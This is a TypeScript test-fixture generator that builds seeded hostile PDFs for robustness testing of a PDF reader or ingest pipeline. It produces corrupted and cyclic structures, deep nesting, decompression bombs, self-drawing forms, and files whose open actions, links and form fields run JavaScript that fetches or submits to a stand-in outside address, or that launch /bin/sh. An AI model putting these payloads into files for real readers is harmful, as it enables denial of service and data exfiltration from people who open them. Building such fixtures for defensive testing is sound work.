import { deflateSync } from 'node:zlib'

/** File that an ingest or a reader may meet, made to harm whoever reads it. */
export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
}

/** Number from 0 up to 1, the next of a sequence that a seed gives. */
export type Random = () => number

/** Address that nobody may ask for. */
export const OUTSIDE = 'http://127.0.0.1:9/outside'

const stream = (body: string | Buffer, facts = '') => {
  const bytes = Buffer.from(body as string, 'latin1')
  return Buffer.concat([
    Buffer.from(`<<${facts}/Length ${bytes.length}>>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ])
}

/** A PDF of the given objects, with a table of their places; what is mutated is mutated after it. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let at = parts[0]?.length ?? 0
  for (const [index, object] of objects.entries()) {
    const body = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object as string, 'latin1'),
      Buffer.from('\nendobj\n'),
    ])
    places.push(at)
    at += body.length
    parts.push(body)
  }
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`
  parts.push(Buffer.from(`${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const TEXT = 'BT /F 12 Tf 72 700 Td (1 Scope) Tj 0 -20 Td (Gaskets and flanges are tested.) Tj ET'

interface Parts {
  readonly catalog?: string
  readonly pages?: string
  readonly page?: string
  readonly content?: string | Buffer
  readonly contentFacts?: string
  readonly more?: readonly (string | Buffer)[]
  readonly trailer?: string
}

/** A page of text, with parts of it changed. Further objects begin with number 6. */
function onePage({
  catalog = '',
  pages = '/Kids[3 0 R]/Count 1',
  page = '',
  content = TEXT,
  contentFacts,
  more = [],
  trailer,
}: Parts): Buffer {
  return pdfOf(
    [
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      `<</Type/Pages${pages}>>`,
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>${page}>>`,
      stream(content, contentFacts),
      FONT,
      ...more,
    ],
    trailer,
  )
}

const script = (code: string) => `<</S/JavaScript/JS(${code})>>`
const CALL = `app.alert(1);app.launchURL('${OUTSIDE}');this.submitForm('${OUTSIDE}')`
const nested = (depth: number, open: string, close: string, within = '') => open.repeat(depth) + within + close.repeat(depth)

/** Harm that a PDF can do to its readers, each with a rule that makes one. */
const KINDS: Readonly<Record<string, (random: Random) => Buffer>> = {
  'bytes changed': (random) => {
    const bytes = onePage({})
    for (let count = 0; count < 20; count++) bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
    return bytes
  },
  'places of objects changed': (random) => {
    const text = onePage({}).toString('latin1')
    return Buffer.from(
      text.replace(/\d{10} 00000 n/g, () => `${String(Math.floor(random() * 9e9)).padStart(10, '0')} 00000 n`),
      'latin1',
    )
  },
  'cut off': (random) => {
    const bytes = onePage({})
    return bytes.subarray(0, Math.floor(random() * bytes.length))
  },
  'a table of places that leads to itself': () => {
    const text = onePage({ trailer: '/Prev 9' }).toString('latin1')
    const at = text.lastIndexOf('xref\n0')
    return Buffer.from(text.replace('/Prev 9', `/Prev ${at}`), 'latin1')
  },
  'pages in a circle': (random) => onePage({ pages: `/Kids[${'2 0 R '.repeat(1 + Math.floor(random() * 50))}3 0 R]/Count 99` }),
  'deep pages': (random) => {
    const depth = 200 + Math.floor(random() * 2000)
    const inner = Array.from(
      { length: depth },
      (_, at) => `<</Type/Pages/Parent ${at + 5} 0 R/Count 1/Kids[${at === depth - 1 ? 3 : at + 7} 0 R]>>`,
    )
    return onePage({ pages: '/Kids[6 0 R]/Count 1', more: inner })
  },
  'deep arrays': (random) => onePage({ page: `/Rotate ${nested(1000 + Math.floor(random() * 50_000), '[', ']')}` }),
  'deep dictionaries': (random) => onePage({ page: `/X ${nested(1000 + Math.floor(random() * 20_000), '<</A ', '>>', '1')}` }),
  'a stream that unpacks without end': (random) =>
    onePage({
      content: deflateSync(Buffer.alloc(20_000_000 + Math.floor(random() * 10_000_000), '0 ')),
      contentFacts: '/Filter/FlateDecode',
    }),
  'a stream packed many times': (random) => {
    const times = 2 + Math.floor(random() * 4)
    let content = Buffer.alloc(2_000_000, ' ')
    for (let count = 0; count < times; count++) content = deflateSync(content)
    return onePage({ content, contentFacts: `/Filter[${'/FlateDecode'.repeat(times)}]` })
  },
  'drawings that draw themselves': () =>
    onePage({
      content: '/X Do',
      page: '/Resources<</XObject<</X 6 0 R>>>>',
      more: [stream('/X Do /X Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>')],
    }),
  'drawings that double': (random) => {
    const levels = 10 + Math.floor(random() * 15)
    const forms = Array.from({ length: levels }, (_, at) =>
      stream(
        at === levels - 1 ? TEXT : '/X Do /X Do',
        `/Type/XObject/Subtype/Form/BBox[0 0 900 900]/Resources<</Font<</F 5 0 R>>/XObject<</X ${at + 7} 0 R>>>>`,
      ),
    )
    return onePage({ content: '/X Do', page: '/Resources<</XObject<</X 6 0 R>>>>', more: forms })
  },
  'a script that runs when it is opened': (random) =>
    onePage({
      catalog: `/OpenAction${script(CALL)}/AA<</WC${script(CALL)}>>/Names<</JavaScript<</Names[(a)${script(CALL)}]>>>>`,
      page: random() < 0.5 ? `/AA<</O${script(CALL)}>>` : '',
    }),
  'links that run and fetch': (random) => {
    const actions = [
      `<</S/URI/URI(javascript:fetch\\('${OUTSIDE}'\\))>>`,
      `<</S/Launch/F(/bin/sh)>>`,
      `<</S/SubmitForm/F(${OUTSIDE})>>`,
      `<</S/GoToR/F(${OUTSIDE})>>`,
      script(CALL),
    ]
    const action = actions[Math.floor(random() * actions.length)]
    return onePage({ page: '/Annots[6 0 R]', more: [`<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A${action}>>`] })
  },
  'files elsewhere': () =>
    onePage({
      content: `/I Do ${TEXT}`,
      page: '/Resources<</XObject<</I 6 0 R>>/Font<</F 5 0 R>>>>',
      more: [`<</Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(${OUTSIDE})>>/Length 0>>\nstream\n\nendstream`],
    }),
  'forms with scripts': () =>
    onePage({
      catalog: '/AcroForm<</Fields[6 0 R]/XFA[(template)7 0 R]>>',
      page: '/Annots[6 0 R]',
      more: [
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</F${script(CALL)}/K${script(CALL)}>>>>`,
        stream(`<template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><script>${CALL}</script></template>`),
      ],
    }),
  'an outline in a circle': (random) =>
    onePage({
      catalog: '/Outlines 6 0 R',
      more: [
        '<</First 7 0 R/Last 7 0 R>>',
        `<</Title(${'A'.repeat(Math.floor(random() * 60_000))})/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>`,
      ],
    }),
  'a page as large as a country': (random) =>
    onePage({ page: `/MediaBox[0 0 ${random() < 0.5 ? 1e9 : -1e9} 1e38]/UserUnit 75000` }),
  'numbers that are none': () => onePage({ content: 'BT /F 1e99 Tf 99999999999999999999 -1e309 Td (a) Tj NaN 0 Td (b) Tj ET' }),
  'marks of direction and nothing else': (random) =>
    onePage({
      content: `BT /F 12 Tf 72 700 Td <${'202E202D2066200F0000'.repeat(200 + Math.floor(random() * 500))}> Tj ET`,
      page: '/Resources<</Font<</F 6 0 R>>>>',
      more: [
        '<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>]/ToUnicode 7 0 R>>',
        stream('1 beginbfrange <0000> <FFFF> <0000> endbfrange'),
      ],
    }),
  'letters over letters': (random) =>
    onePage({ content: `BT /F 12 Tf ${'1 0 0 1 72 700 Tm (x y 1.1 Table) Tj '.repeat(3000 + Math.floor(random() * 5000))}ET` }),
  'a table of a hundred columns': (random) => {
    const rows = 20 + Math.floor(random() * 40)
    const cell = (row: number, column: number) => `1 0 0 1 ${20 + column * 6} ${760 - row * 12} Tm (${(row * column) % 9}) Tj `
    return onePage({
      content: `BT /F 5 Tf ${Array.from({ length: rows * 95 }, (_, at) => cell(Math.floor(at / 95), at % 95)).join('')}ET`,
    })
  },
  'a sheet that is locked by nonsense': (random) =>
    onePage({
      trailer: `/Encrypt<</Filter/Standard/V ${Math.floor(random() * 9)}/R 6/Length 999/O(${'x'.repeat(48)})/U(y)/P -1>>/ID[()()]`,
    }),
  'empty characters': () =>
    onePage({ content: Buffer.from(`BT /F 12 Tf 72 700 Td (a\0b\0\0c) Tj ET${'\0'.repeat(5000)}`, 'latin1') }),
  'a tree of tags in a circle': () =>
    onePage({
      catalog: '/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R',
      page: '/StructParents 0',
      content: `/P <</MCID 0>> BDC ${TEXT} EMC`,
      more: [
        '<</Type/StructTreeRoot/K 7 0 R/ParentTree<</Nums[0[7 0 R]]>>>>',
        '<</S/H1/P 7 0 R/K[7 0 R 0 <</Type/MCR/MCID 0/Pg 3 0 R>>]/Pg 3 0 R>>',
      ],
    }),
}

export const PDF_KINDS = Object.keys(KINDS)

/** Makes the hostile PDF of a number: each kind in turn, different each time. */
export function hostilePdf(number: number, random: Random): HostileFile {
  const name = PDF_KINDS[number % PDF_KINDS.length] as string
  return { name: `${number} ${name}`, bytes: (KINDS[name] as (random: Random) => Buffer)(random) }
}

/** Numbers of a seed, the same each time. */
export function randomOf(seed: number): Random {
  let state = seed >>> 0 || 1
  return () => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0
    const mixed = Math.imul(state ^ (state >>> 12), 0x297a2d39) >>> 0
    return ((mixed ^ (mixed >>> 15)) >>> 0) / 2 ** 32
  }
}
